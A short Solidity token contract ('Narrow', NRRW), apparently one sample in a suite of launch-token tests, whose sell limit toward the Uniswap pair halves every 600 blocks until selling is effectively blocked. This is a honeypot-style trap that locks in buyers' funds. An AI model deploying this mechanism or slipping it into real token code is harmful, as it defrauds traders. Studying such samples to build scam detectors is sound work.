// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// A sale may be of any size at first; what it may be halves every two hours.
contract ShrinkingCap is LaunchToken {
    uint256 private immutable _launch = block.number;

    constructor(address pair) SuiteToken("Narrow", "NRRW") LaunchToken(pair) {}

    function maxSell() public view returns (uint256) {
        return _supply >> ((block.number - _launch) / 600);
    }

    function _feePercent(address, address to, uint256 amount) internal view override returns (uint256) {
        if (to == uniswapV2Pair && amount > maxSell()) revert TradeRefused();
        return 0;
    }
}
